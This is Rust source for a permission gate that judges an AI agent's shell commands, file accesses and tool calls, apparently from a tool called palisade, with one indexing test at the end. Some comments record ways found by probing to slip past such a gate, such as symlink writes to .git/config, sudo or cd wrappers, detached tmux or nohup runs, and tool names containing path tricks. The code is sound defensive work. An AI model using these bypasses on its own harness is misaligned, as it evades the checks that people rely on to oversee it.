                            let mut targets = vec![path.to_owned()];
                            if let Some(absolute) = lexical_absolute(self.root.as_deref(), path)
                                && !targets.contains(&absolute)
                            {
                                targets.push(absolute);
                            }
                            targets
                        }
                        Err(err) => {
                            if verdict < Verdict::Ask {
                                verdict = Verdict::Ask;
                                reason = format!(
                                    "{reason}; file argument `{}` is not a path that can be checked ({err}) → ask",
                                    path
                                );
                            }
                            continue;
                        }
                    }
                };
                for target in &targets {
                    for (layer, policy, rule) in self.policies.strict_path_rules(target, access) {
                        let matched = RuleMatch {
                            layer,
                            file: policy.origin().to_path_buf(),
                            line: rule.line,
                            action: rule.action,
                            reason: rule.reason.clone(),
                        };
                        if rule.action > verdict {
                            verdict = rule.action;
                            reason = format!(
                                "{reason}; file argument `{} {target}`: {}",
                                access.as_str(),
                                matched.describe()
                            );
                        }
                        if !rules.contains(&matched) {
                            rules.push(matched);
                        }
                    }
                }
            }
        }
        (verdict, reason)
    }

    /// Resolves on disk the literal paths a command names inside the workspace (its known
    /// file arguments and its redirection targets; see [`Gate::with_links_resolved`]): one
    /// that leads out of the workspace through a symbolic link makes it ask, and one that
    /// is a link to another file inside it is also decided as that file.
    #[cfg(any(unix, windows))]
    fn link_verdicts(
        &self,
        command: &crate::shell::SimpleCommand,
        directories: &[String],
        mut verdict: Verdict,
        mut reason: String,
    ) -> (Verdict, String) {
        let Some(root) = &self.links else {
            return (verdict, reason);
        };
        if verdict == Verdict::Deny {
            return (verdict, reason);
        }
        let arguments = crate::file_args::file_arguments(&command.argv);
        let named = arguments
            .iter()
            .filter(|a| !a.word.opaque && !a.word.glob)
            .map(|a| (a.access, a.path.as_ref()))
            .chain(command.redirects.iter().filter_map(|r| {
                let access = match r.access {
                    crate::shell::RedirectAccess::Read => FileAccess::Read,
                    _ => FileAccess::Write,
                };
                r.target.as_literal().map(|t| (access, t))
            }));
        for (access, path) in named {
            if crate::risk_table::is_harmless_sink(path) {
                continue;
            }
            for place in crate::risk_table::places(path, directories) {
                let Ok(relative) = self.normalise(&place) else {
                    // Outside the workspace, or not a path: judged by name elsewhere.
                    continue;
                };
                let resolved = match root.resolve(relative.as_str()) {
                    Ok(resolved) => resolved,
                    Err(err) if err.kind() == palisade_path::ErrorKind::SymlinkEscape => {
                        if verdict < Verdict::Ask {
                            verdict = Verdict::Ask;
                        }
                        reason = format!(
                            "{reason}; `{place}` leads out of the workspace through a symbolic link → ask"
                        );
                        continue;
                    }
                    // Missing or not a directory: the command fails or creates it.
                    Err(_) => continue,
                };
                if resolved.path == relative {
                    continue;
                }
                let target = resolved.path.as_str();
                let file = self.decide_file_named(access, target);
                if file.verdict > verdict {
                    verdict = file.verdict;
                    let why = file.reasons.first().map_or("", String::as_str);
                    reason = format!("{reason}; `{place}` is a symbolic link to `{target}`: {why}");
                }
            }
        }
        (verdict, reason)
    }

    /// A path as given, made relative to the workspace root and normalised by the sanitizer.
    fn normalise(&self, path: &str) -> Result<palisade_path::SafeRelPath, palisade_path::Error> {
        match (&self.root, Path::new(path).is_absolute()) {
            (Some(root), true) => match Path::new(path).strip_prefix(root) {
                Ok(rest) if rest.as_os_str().is_empty() => self.sanitizer.sanitize("."),
                Ok(rest) => self.sanitizer.sanitize_path(rest),
                Err(_) => self.sanitizer.sanitize(path),
            },
            _ => self.sanitizer.sanitize(path),
        }
    }

    /// Decides on a file access. The path is normalised with `palisade-path` against the
    /// workspace root; path rules match the normalised relative path. A path outside the
    /// root is high risk, and only deny and ask rules (matching the path as given) apply to
    /// it; a path the sanitizer rejects for another reason (NUL, encoding tricks, reserved
    /// names) is denied. With [`Gate::with_links_resolved`], a path inside the workspace that
    /// is a symbolic link is also decided as its target, and one that leads out of the
    /// workspace asks.
    pub fn decide_file(&self, access: FileAccess, path: &str) -> Decision {
        let mut decision = self.decide_file_named(access, path);
        #[cfg(any(unix, windows))]
        if let Some(root) = &self.links
            && decision.verdict < Verdict::Deny
            && let Ok(relative) = self.normalise(path)
        {
            match root.resolve(relative.as_str()) {
                Err(err) if err.kind() == palisade_path::ErrorKind::SymlinkEscape => {
                    if decision.verdict < Verdict::Ask {
                        decision.verdict = Verdict::Ask;
                    }
                    decision.risk = decision.risk.max(RiskLevel::High);
                    decision.reasons.push(format!(
                        "`{path}` leads out of the workspace through a symbolic link → ask"
                    ));
                }
                Ok(resolved) if resolved.path != relative => {
                    let target = self.decide_file_named(access, resolved.path.as_str());
                    if target.verdict > decision.verdict {
                        decision.verdict = target.verdict;
                    }
                    decision.risk = decision.risk.max(target.risk);
                    let why = target.reasons.first().map_or("", String::as_str);
                    decision.reasons.push(format!(
                        "`{path}` is a symbolic link to `{}`: {why}",
                        resolved.path.as_str()
                    ));
                    decision.findings.extend(target.findings);
                }
                // Not a link, missing, or not a directory on the way: judged by name.
                _ => {}
            }
        }
        decision
    }

    /// [`Gate::decide_file`] on the path as named, without resolving links.
    fn decide_file_named(&self, access: FileAccess, path: &str) -> Decision {
        let who = format!("{} {path}", access.as_str());
        let relative = self.normalise(path);
        let (level, what, target, inside) = match relative {
            Ok(rel) => {
                let classes = crate::risk_table::classify_path(rel.as_str());
                let (level, what) = if classes.contains(&crate::risk_table::PathClass::Secret) {
                    (RiskLevel::High, "touches a secret in the workspace")
                } else if access != FileAccess::Read
                    && (classes.contains(&crate::risk_table::PathClass::Persistence)
                        || rel.as_str().starts_with(".git/"))
                {
                    (
                        RiskLevel::High,
                        "changes a file that runs code later (hooks, rc files)",
                    )
                } else if access == FileAccess::Delete {
                    (RiskLevel::Medium, "deletes in the workspace")
                } else {
                    (RiskLevel::Low, "inside the workspace")
                };
                (level, what.to_owned(), rel.into_string(), true)
            }
            Err(err)
                if matches!(
                    err.kind(),
                    palisade_path::ErrorKind::Traversal | palisade_path::ErrorKind::Absolute
                ) =>
            {
                let classes = crate::risk_table::classify_path(path);
                let level = if access != FileAccess::Read
                    && (classes.contains(&crate::risk_table::PathClass::CriticalSystem)
                        || classes.contains(&crate::risk_table::PathClass::Device))
                {
                    RiskLevel::Critical
                } else {
                    RiskLevel::High
                };
                (
                    level,
                    "outside the workspace".to_owned(),
                    path.to_owned(),
                    false,
                )
            }
            Err(err) => {
                return Decision::rejected(&who, &err, &format!("path rejected: {err}"));
            }
        };
        let matched: Vec<(Layer, &Policy, &Rule)> = self
            .policies
            .path_rules()
            .filter(|(_, _, r)| r.matches_path(&target, access))
            .filter(|(_, _, r)| inside || r.action != Verdict::Allow)
            // The project's policy lifts at most medium risk (see `decide_commands`).
            .filter(|(layer, _, r)| {
                !(*layer == Layer::Project
                    && r.action == Verdict::Allow
                    && level > RiskLevel::Medium)
            })
            .collect();
        let lifts_critical = matched.iter().any(|(layer, _, r)| {
            r.action == Verdict::Allow && r.allow_critical && layer.may_lift_critical()
        });
        let rules: Vec<RuleMatch> = matched
            .iter()
            .map(|(layer, policy, rule)| RuleMatch {
                layer: *layer,
                file: policy.origin().to_path_buf(),
                line: rule.line,
                action: rule.action,
                reason: rule.reason.clone(),
            })
            .collect();
        let mut decision = self.simple_decision(
            &format!("{} {target}", access.as_str()),
            level,
            &what,
            rules,
        );
        if decision.verdict == Verdict::Allow && level == RiskLevel::Critical && !lifts_critical {
            decision.verdict = self.policies.thresholds().critical.max(Verdict::Ask);
            decision.reasons.push(
                "critical risk is not lifted by an allow rule without `allow_critical = true`"
                    .to_owned(),
            );
        }
        decision
    }

    /// Decides on a tool call by name: tool rules, else medium risk.
    pub fn decide_tool(&self, name: &str) -> Decision {
        // Tool names come from third parties (MCP servers): one outside `[A-Za-z0-9_.:-]`
        // (`read_file/../exec`, a NUL, a right-to-left mark, a trailing space) is matched by
        // deny and ask rules only.
        let plain = !name.is_empty()
            && name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b':' | b'-'));
        let rules: Vec<RuleMatch> = self
            .policies
            .rules()
            .filter(|(_, _, r)| r.matches_tool(name))
            .filter(|(_, _, r)| plain || r.action != Verdict::Allow)
            .map(|(layer, policy, rule)| RuleMatch {
                layer,
                file: policy.origin().to_path_buf(),
                line: rule.line,
                action: rule.action,
                reason: rule.reason.clone(),
            })
            .collect();
        self.simple_decision(
            &format!("tool {name}"),
            RiskLevel::Medium,
            "tool call",
            rules,
        )
    }

    fn simple_decision(
        &self,
        who: &str,
        level: RiskLevel,
        what: &str,
        rules: Vec<RuleMatch>,
    ) -> Decision {
        // Tools and hosts have no risk of their own to bound what the project's policy
        // (untrusted: it lives in the repository) allows: only its deny and ask rules count.
        let rules: Vec<RuleMatch> = rules
            .into_iter()
            .filter(|r| !(r.layer == Layer::Project && r.action == Verdict::Allow))
            .collect();
        let strictest = rules.iter().map(|r| r.action).max();
        let (verdict, reason) = match strictest {
            Some(action) => {
                let rule = rules
                    .iter()
                    .find(|r| r.action == action)
                    .map(RuleMatch::describe)
                    .unwrap_or_default();
                (action, format!("`{who}`: {rule}"))
            }
            None => {
                let verdict = self.policies.thresholds().for_level(level);
                (
                    verdict,
                    format!("`{who}`: no rule matches; {level} risk → {verdict}"),
                )
            }
        };
        Decision {
            verdict,
            risk: level,
            commands: Vec::new(),
            findings: vec![Finding {
                level,
                reason: format!("`{who}`: {what}"),
                command: None,
            }],
            reasons: vec![reason],
        }
    }
}

/// Where a command runs that its words, which allow rules match, do not show: with raised
/// privileges from a wrapper around it (`sudo sh -c 'rm x'`; `sudo rm x` shows it), on
/// another host, or in a directory outside the workspace that a wrapper or the line moves to
/// (`env -C /srv …`, `cd /etc && …`).
fn unseen_context(
    command: &crate::shell::SimpleCommand,
    directories: &[String],
    root: Option<&str>,
) -> Option<String> {
    const ELEVATORS: &[&str] = &[
        "sudo", "doas", "su", "run0", "pkexec", "runuser", "setpriv", "nsenter", "chroot",
    ];
    let shown = |programs: &[&str]| {
        command
            .invocation
            .first()
            .is_some_and(|w| programs.contains(&crate::shell::basename(&w.text)))
    };
    if command.elevated && !shown(ELEVATORS) {
        return Some("with raised privileges from a wrapper around it".to_owned());
    }
    if let Some(host) = &command.remote
        && !shown(&["ssh", "slogin"])
    {
        return Some(format!("on the host `{host}`"));
    }
    // `screen -dm sh -c …`, `tmux new -d …`, `setsid`, `nohup`, `watch`: the command goes on
    // after the call returns, or again and again (found by probing, session 9).
    if let Some(detached) = command.wrappers.iter().find(|w| {
        matches!(
            w.split(' ').next().unwrap_or(w),
            "screen" | "tmux" | "setsid" | "nohup" | "watch" | "daemonize" | "at" | "batch"
        )
    }) && !shown(&[detached.split(' ').next().unwrap_or(detached)])
    {
        return Some(format!(
            "through `{detached}`, which keeps it running after the call"
        ));
    }
    // `npx -c ls` under `allow ls`: the runner may run the project's own `ls`.
    if let Some(runner) = command
        .wrappers
        .iter()
        .find(|w| crate::shell::is_project_runner(w) || crate::shell::is_package_runner(w))
        && !shown(&[runner.split(' ').next().unwrap_or(runner)])
    {
        return Some(format!(
            "through `{runner}`, which may run the project's own program of that name"
        ));
    }
    let outside = |dir: &str| {
        let dir = crate::risk::in_workspace(root.map(|r| r.trim_end_matches('/')), dir);
        dir.starts_with(['/', '~', '$'])
            || dir.split('/').any(|part| part == "..")
            || dir.is_empty()
    };
    if let Some(dir) = command
        .directories
        .iter()
        .find(|d| d.opaque || outside(&d.text))
    {
        return Some(format!("in `{}`", dir.text));
    }
    directories
        .iter()
        .find(|d| outside(d))
        .map(|dir| format!("after the line moves to `{dir}`"))
}

/// The links the commands of a line create (`ln [-s] TARGET… NAME`, `cp -s`/`-l`), as (name,
/// target) pairs: a later write to the name writes the target
/// (`ln -s .git/config cfg; echo x >> cfg`; found by probing, session 9). The order of
/// commands is not followed, which only
/// over-approximates. A name that is a directory gets the target's file name in it too.
fn line_links(commands: &[crate::shell::SimpleCommand]) -> Vec<(String, String)> {
    let mut links = Vec::new();
    for command in commands {
        let links_files = match command.name() {
            Some("ln") => true,
            Some("cp") => command.argv.iter().skip(1).any(|w| {
                crate::risk::has_flag(&w.text, &["-s", "-l", "--symbolic-link", "--link"])
            }),
            _ => false,
        };
        if !links_files {
            continue;
        }
        let operands: Vec<&str> = command
            .argv
            .iter()
            .skip(1)
            .map(|w| w.text.as_str())
            .filter(|t| !t.starts_with('-'))
            .collect();
        let Some((name, targets)) = operands.split_last() else {
            continue;
        };
        for target in targets {
            links.push(((*name).to_owned(), (*target).to_owned()));
            let base = crate::shell::basename(target.trim_end_matches('/'));
            if !base.is_empty() {
                links.push((
                    format!("{}/{base}", name.trim_end_matches('/')),
                    (*target).to_owned(),
                ));
            }
        }
        if links.len() > 64 {
            break;
        }
    }
    links
}

/// `place`, and the targets of links the line creates that `place` goes through.
fn through_links<'a>(
    place: std::borrow::Cow<'a, str>,
    links: &[(String, String)],
) -> impl Iterator<Item = std::borrow::Cow<'a, str>> {
    let mut aliases = Vec::new();
    for (name, target) in links {
        let rest = place
            .strip_prefix(name.as_str())
            .filter(|rest| rest.is_empty() || rest.starts_with('/'));
        if let Some(rest) = rest {
            aliases.push(std::borrow::Cow::Owned(format!("{target}{rest}")));
        }
    }
    std::iter::once(place).chain(aliases)
}

fn dedup(reasons: &mut Vec<String>) {
    // A line has a few reasons: a linear scan beats hashing and cloning each one.
    if reasons.len() <= 16 {
        let mut kept: Vec<String> = Vec::with_capacity(reasons.len());
        for reason in reasons.drain(..) {
            if !kept.contains(&reason) {
                kept.push(reason);
            }
        }
        *reasons = kept;
        return;
    }
    let mut seen = std::collections::HashSet::new();
    reasons.retain(|r| seen.insert(r.clone()));
}

/// Quotes a word for bash so that it is passed exactly as given.
pub(crate) fn shell_quote(word: &str) -> String {
    if !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:@%+,".contains(&b))
        && !matches!(
            word,
            "if" | "then"
                | "else"
                | "elif"
                | "fi"
                | "case"
                | "esac"
                | "for"
                | "select"
                | "while"
                | "until"
                | "do"
                | "done"
                | "in"
                | "function"
                | "time"
                | "coproc"
        )
    {
        return word.to_owned();
    }
    let mut out = String::with_capacity(word.len() + 2);
    out.push('\'');
    for c in word.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

/// `path` made absolute against `root` (when relative) with `.` and `..` removed lexically;
/// `None` for a relative path without a root. Used only to find more deny and ask rules.
fn lexical_absolute(root: Option<&Path>, path: &str) -> Option<String> {
    use std::path::Component;
    let joined = if Path::new(path).is_absolute() {
        PathBuf::from(path)
    } else {
        root?.join(path)
    };
    let mut parts: Vec<&std::ffi::OsStr> = Vec::new();
    for component in joined.components() {
        match component {
            Component::Normal(part) => parts.push(part),
            Component::ParentDir => {
                parts.pop();
            }
            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
        }
    }
    let mut out = String::new();
    for part in parts {
        out.push('/');
        out.push_str(part.to_str()?);
    }
    if out.is_empty() {
        out.push('/');
    }
    Some(out)
}

#[cfg(test)]
mod index_tests {
    use super::*;

    /// The rules `command_rules` finds through the name index and the regex set are exactly
    /// those a check of every rule finds.
    #[test]
    fn indexed_rule_lookup_equals_checking_every_rule() {
        let mut src = String::new();
        for i in 0..60 {
            let action = ["allow", "ask", "deny"][i % 3];
            src.push_str(&match i % 4 {
                0 => format!(
                    "[[rule]]\naction = \"{action}\"\nregex = \"^tool{i} (sub|cmd)[0-9]+\"\n"
                ),
                1 => format!("[[rule]]\naction = \"{action}\"\nregex = \"(^| )--force{i}( |$)\"\n"),
                2 => format!("[[rule]]\naction = \"{action}\"\ncommand = \"tool{i} *\"\n"),
                _ => {
                    format!("[[rule]]\naction = \"{action}\"\ncommand = \"*{i}\"\nregex = \"x\"\n")
                }
            });
        }
        let set = PolicySet::new()
            .with(Layer::User, Policy::from_toml(&src, "a.toml").unwrap())
            .with(Layer::Project, Policy::from_toml(&src, "b.toml").unwrap());
        assert!(set.regex_set.is_some());
        let analyzer = ShellAnalyzer::new();
        let mut found = 0;
        for line in [
            "tool0 sub1",
            "tool4 cmd22 --force1",
            "sudo tool8 sub3",
            "git push --force5 --force9",
            "tool2 a && tool6 x",
            "x3 --force13",
            "$T sub1",
            "ls",
        ] {
            for command in &analyzer.analyze(line).commands {
                let indexed: Vec<usize> = set
                    .command_rules(command)
                    .iter()
                    .map(|(_, _, rule)| rule.line)
                    .collect();
                let every: Vec<usize> = set
                    .rules()
                    .filter(|(_, _, rule)| rule.matches_command(command))
                    .map(|(_, _, rule)| rule.line)
                    .collect();
                assert_eq!(indexed, every, "{line:?}");
                found += indexed.len();
            }
        }
        assert!(!set.regex_only.is_empty());
        assert!(
            found >= 10,
            "only {found} rule matches: the test checks too little"
        );
    }
}
